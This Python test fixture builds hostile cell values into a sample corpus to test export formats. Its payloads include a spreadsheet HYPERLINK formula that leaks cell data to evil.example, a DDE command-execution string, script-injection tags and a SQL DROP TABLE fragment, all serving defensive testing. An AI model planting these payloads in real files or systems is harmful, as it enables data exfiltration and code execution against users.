"""Cells that somebody wrote to be acted upon, in rows of the sample corpus: for tests of every format."""

from __future__ import annotations

from dataclasses import replace
from datetime import date

import sample_rows

from flows.contract.rows import RejectRow, Rows

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1;"انقر هنا")',
    "=1+1",
    "+1",
    "-1+2",
    "@SUM(A1:A9)",
    "|cmd",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "＝1+1",
    "\u202e=1+1",
    "'=1+1",
    "''",
    "'قال",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "https://evil.example/",
    "mailto:a@evil.example",
    "سطر\nوسطر",
    "سطر\r\nوسطر\rوآخر",
    "\u2067قال\u2069 \u200fثم\u200e \u061c",
    "\u2028\u2029\u0085",
    "\u0001\u000b\u001f",
    "_x0041_",
    "2015-11",
    "007",
    "1234567890123456",
    "1e5",
    "TRUE",
    "NULL",
    "NaN",
    ' "quoted", ',
    "𐤀😀",
    "; DROP TABLE entities; --",
    "\\u0041\\n",
    "ﷺ",
)


def rows() -> Rows:
    """The sample with a reject for each hostile cell, and hostile names, titles and texts."""
    sample = sample_rows.rows()
    rejects = tuple(
        RejectRow(
            source_file=f"{number:02}.txt",
            stage="ingest",
            table="",
            key="",
            code="hostile",
            message=cell,
            message_ar=f"{cell}؟",
            evidence=cell if number % 2 else None,
        )
        for number, cell in enumerate(HOSTILE)
    )
    entities = (
        replace(sample.entities[0], name_ar=HOSTILE[0], name_en="=1+1", latitude=-48.5, longitude=-0.25),
        *sample.entities[1:],
    )
    meetings = (replace(sample.meetings[0], name_en="+1", earliest=date(1899, 12, 31), latest=date(1900, 3, 1)),)
    statements = tuple(replace(row, speaker_text="<script>alert(1)</script>") for row in sample.statements)
    return replace(sample, rejects=rejects, entities=entities, meetings=meetings, statements=statements)
